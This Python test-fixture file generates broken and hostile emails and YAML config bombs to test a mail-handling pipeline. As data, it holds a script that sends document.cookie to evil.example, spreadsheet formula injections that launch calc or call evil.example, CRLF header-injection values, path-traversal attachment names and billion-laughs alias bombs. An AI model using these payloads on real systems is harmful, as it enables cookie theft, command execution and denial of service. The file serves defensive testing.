"""Broken and hostile mail, generated (nothing big is stored in the repository).

Every case is (name, raw bytes). Names double as the subject tag where a case has a subject, so a failure
points at its case. `HOSTILE` holds the strings the hostile tests look for downstream.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from pathlib import Path

SHIPPED = (Path(__file__).resolve().parents[2] / "config.yaml").read_text(encoding="utf-8")
CANARY = "resilience-canary-3f9a"  # a file name that must never appear on disk
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example","//a")')
MENTIONS = ("<!channel>", "<!here>", "<!everyone>", "<@U0ADMIN>", "<https://evil.example/login|Open the draft>",
            "<#C0GENERAL>")
SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"


def _msg(name: str, headers: str, body: bytes | str, sender: str = "Mallory Tester <mallory@hostile.example>",
         subject: str | None = None, date: str = "Tue, 01 Dec 2026 10:00:00 +0000",
         message_id: str = "") -> tuple[str, bytes]:
    subject = f"[{name}] hostile case" if subject is None else subject
    head = (f"From: {sender}\r\nTo: sales@acme-pumps.example\r\nSubject: {subject}\r\n"
            f"Date: {date}\r\nMessage-ID: {message_id or f'<{name}@hostile.example>'}\r\n{headers}")
    data = body.encode("utf-8") if isinstance(body, str) else body
    return name, head.encode("utf-8", "surrogateescape") + b"\r\n" + data


def _nested(depth: int) -> str:
    head = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n"
    parts = []
    for i in range(depth):
        parts.append(f"--b{i}\r\nContent-Type: multipart/mixed; boundary=\"b{i + 1}\"\r\n\r\n")
    parts.append(f"--b{depth}\r\nContent-Type: text/plain\r\n\r\nWe need a quote for 4 pumps.\r\n--b{depth}--\r\n")
    parts += [f"--b{i}--\r\n" for i in reversed(range(depth))]
    return head + "\r\n" + "".join(parts)


def broken_mail() -> list[tuple[str, bytes]]:
    """Malformed, oddly encoded, oversized-but-not-huge and hostile mail (the 25 MB case is big_attachment(), the
    50 MB one huge_line())."""
    rng = random.Random(7)
    binary = bytes(rng.randrange(256) for _ in range(20_000))
    deep_head, deep_body = _nested(300).split("\r\n\r\n", 1)
    cases = [
        ("zero-byte", b""),
        ("only-garbage", binary[:5000]),
        ("no-blank-line", b"From: a@b.example\r\nSubject: no body separator\r\nX-Junk: " + b"y" * 3000),
        _msg("header-without-colon", "MIME-Version: 1.0\r\nThis line is not a header\r\nX-Ok: yes\r\n", "Body text."),
        _msg("nul-in-headers", "X-Evil: a\x00b\r\nMIME-Version: 1.0\r\n", "Hello\x00 there, we need pumps."),
        _msg("bad-date", "Date: Someday, 99 Foo 20x6 25:61:99 +9999\r\n", "Please quote 3 pumps."),
        _msg("no-address", "", "Anonymous request for a quote.", sender="Just A Name"),
        _msg("two-from", "From: second@hostile.example\r\n", "Which one am I?"),
        _msg("8bit-header", "Content-Type: text/plain; charset=latin-1\r\n",
             "Gr\xfc\xdfe, wir brauchen Pumpen.".encode("latin-1"),
             subject="Anfrage f\udcfcr Pumpen"),  # a raw latin-1 byte in the Subject
        _msg("unknown-charset", "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-unknown-42\r\n",
             "Bonjour, nous voulons un devis pour des pompes.".encode("latin-1")),
        _msg("wrong-charset", "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n",
             "Grüße aus München, bitte ein Angebot für 2 Pumpen. Ça va?".encode()),
        _msg("utf8-declared-latin1-sent", "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n",
             "Pompes \xe0 vis pour la fromagerie, devis svp.".encode("latin-1")),
        _msg("encoded-word-unknown-charset", "", "Body.", subject="=?x-bogus?Q?Quote_please?= =?utf-8?B?!!!?="),
        _msg("broken-base64", "MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n",
             "SGVsbG8gd2UgbmVlZCBwdW1wcw=!!*&^%$ not base64 at all ==="),
        _msg("broken-qp", "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n"
             "Content-Transfer-Encoding: quoted-printable\r\n", "Price =XX =\r\n=E9=8 request =3D quote"),
        _msg("deep-multipart", deep_head + "\r\n", deep_body),
        _msg("binary-text-body", "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n", binary),
        _msg("binary-no-type", "", binary),
        _msg("subject-10k-words", "", "See subject.", subject=" ".join(["pump"] * 2000)),
        _msg("subject-10k-token", "", "See subject.", subject="Q" * 10_000),
        _msg("crlf-in-name", "", "We need a quote.",
             sender="=?utf-8?q?Eve=0D=0ABcc:_victim@elsewhere.example=0D=0AX-Injected:_1?= <eve@hostile.example>"),
        _msg("crlf-in-subject", "", "We need a quote.",
             subject="=?utf-8?q?Quote=0D=0ABcc:_victim@elsewhere.example=0A=0D=0A<html>?="),
        _msg("path-attachment", "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"zz\"\r\n",
             "--zz\r\nContent-Type: text/plain\r\n\r\nQuote attached, please price these pumps.\r\n"
             f"--zz\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
             f"filename=\"../../../../../../tmp/{CANARY}-rel.sh\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
             + base64.b64encode(b"#!/bin/sh\necho owned\n").decode() + "\r\n"
             f"--zz\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
             f"filename*=utf-8''%2Ftmp%2F{CANARY}-abs.sh\r\n\r\nabs\r\n"
             f"--zz\r\nContent-Type: text/plain; name=\"..\\\\..\\\\{CANARY}-win.ini\"\r\n"
             "Content-Disposition: attachment\r\n\r\nwin\r\n--zz--\r\n"),
        _msg("path-sender", "", "Hello, a quote for pumps please.",
             sender=f"\"../../../tmp/{CANARY}-sender\" <mallory@hostile.example>"),
        _msg("html-script", "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n",
             f"<html><body><p>We need a quote for 5 pumps.</p>{SCRIPT}<img src=x onerror=\"alert(1)\">"
             "<a href=\"javascript:alert(2)\">details</a><iframe src=\"https://evil.example\"></iframe>"
             "<style>p{{background:url(https://evil.example/t.gif)}}</style></body></html>"),
        _msg("html-in-subject", "", "A quote please.", subject=f"Quote {SCRIPT} <b onmouseover=alert(3)>now</b>"),
        _msg("date-9999", "", "Please quote 2 pumps.", date="Fri, 31 Dec 9999 23:59:59 -1200"),
        _msg("date-year-one", "", "Please quote 3 pumps.", date="Mon, 01 Jan 0001 00:00:00 +2359"),
        _msg("reply-to-our-mailbox", "Reply-To: Sales Desk <SALES@Acme-Pumps.Example>\r\n",
             "Hello, please quote 5 pumps for our plant.", sender="Carl Customer <carl@customer-plant.example>"),
        _msg("reply-to-encoded-colleague", "Reply-To: =?utf-8?q?Bob_Nguyen?= <Bob@ACME-PUMPS.example>\r\n",
             "Hello, please quote 6 pumps for our plant.", sender="Dora Customer <dora@customer-mill.example>"),
        _msg("reply-to-encoded-address", "Reply-To: =?utf-8?q?sales=40acme-pumps=2Eexample?=\r\n",
             "Hello, please quote 7 pumps for our plant.", sender="Emil Customer <emil@customer-farm.example>"),
    ]
    for i, formula in enumerate(FORMULAS):
        cases.append(_msg(f"formula-{i}", "", f"{formula}\r\nPlease send a quote for pumps.", subject=formula,
                          sender=f"\"{formula}\" <formula{i}@hostile.example>"))
    for i, mention in enumerate(MENTIONS):
        cases.append(_msg(f"mention-{i}", "", f"Urgent quote for pumps {mention}, thanks!",
                          subject=f"Quote request {mention} urgent",
                          sender=f"\"{mention}\" <mention{i}@hostile.example>"))
    return cases


DUPLICATE_ID = "<reused-id@mailer.example>"


def duplicate_message_id() -> list[tuple[str, bytes]]:
    """Two different leads from two senders that carry the same Message-ID (broken mailers, resent forms)."""
    return [
        _msg("duplicate-id-first", "", "Hello, please quote 4 borehole pumps for our farm. Regards, Ann",
             sender="Ann First <ann@first-farm.example>", subject="Quote for 4 borehole pumps",
             message_id=DUPLICATE_ID),
        _msg("duplicate-id-second", "", "Good day, we need a price for 12 stainless valves. Bob",
             sender="Bob Second <bob@second-dairy.example>", subject="Price request: 12 valves",
             message_id=DUPLICATE_ID),
    ]


def big_attachment(megabytes: int = 25) -> bytes:
    """A lead with a `megabytes` MB attachment (base64, so about 1.37 times that on the wire)."""
    chunk = base64.encodebytes(bytes(range(256)) * 3 * 1024)  # 768 KiB of data per chunk
    body = b"".join(_chunks(chunk, megabytes * 1024 * 1024 // (768 * 1024) + 1))
    head = (b"From: Big Sender <big@hostile.example>\r\nTo: sales@acme-pumps.example\r\n"
            b"Subject: Drawings for the pump quote\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\n"
            b"Message-ID: <big-attachment@hostile.example>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/mixed; boundary=\"big\"\r\n\r\n--big\r\nContent-Type: text/plain\r\n\r\n"
            b"Please quote pumps as per the attached drawings.\r\n--big\r\nContent-Type: application/pdf\r\n"
            b"Content-Disposition: attachment; filename=\"drawings.pdf\"\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n")
    return head + body + b"\r\n--big--\r\n"


def huge_line(megabytes: int = 50) -> bytes:
    """A lead whose plain-text body is one line of `megabytes` MB (not base64: nothing to elide cheaply)."""
    head = (b"From: Long Liner <long@hostile.example>\r\nTo: sales@acme-pumps.example\r\n"
            b"Subject: Our full requirements list\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\n"
            b"Message-ID: <huge-line@hostile.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            b"Please quote pumps: ")
    return head + b"pump " * (megabytes * 1024 * 1024 // 5) + b"\r\n"


def _chunks(chunk: bytes, n: int) -> Iterator[bytes]:
    for _ in range(n):
        yield chunk


def billion_laughs(levels: int = 9) -> str:
    """Anchors that each repeat the one before nine times: 9**levels strings once expanded."""
    lines = ['b0: &b0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 9)}]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def with_value(path: str, value: str, prefix: str = "") -> str:
    """The shipped config with the value at `path` ("company.name") replaced by raw YAML text."""
    section, key = path.split(".")
    start = SHIPPED.index(f"\n{section}:")
    line_start = SHIPPED.index(f"\n  {key}:", start) + 1
    line_end = SHIPPED.index("\n", line_start)
    return prefix + SHIPPED[:line_start] + f"  {key}: {value}" + SHIPPED[line_end:]


def config_bombs() -> dict[str, tuple[str, str]]:
    """Configs that expand to gigabytes or nest a thousand levels deep: (YAML text, the path the error names)."""
    return {
        "alias bomb in company.name": (with_value("company.name", "*b8", billion_laughs()), "company.name: expands"),
        "alias bomb in prefilter.block_senders": (
            with_value("prefilter.block_senders", "*b8", billion_laughs()), "prefilter.block_senders: expands"),
        "a long string repeated by aliases": (
            "s: &s " + "x" * 500_000 + "\n" + with_value("company.name", "[" + ", ".join(["*s"] * 200) + "]"),
            "company.name: expands"),
        "an alias that contains itself": (with_value("company.domains", "&loop [*loop]"), "company.domains: expands"),
        "1,000 levels of nesting": (with_value("company.name", "[" * 1000 + "]" * 1000),
                                    "company.name[0][0]"),
        "1,000 levels of mappings": (with_value("company.name", "{a: " * 1000 + "1" + "}" * 1000),
                                     "company.name.a.a.a"),
    }
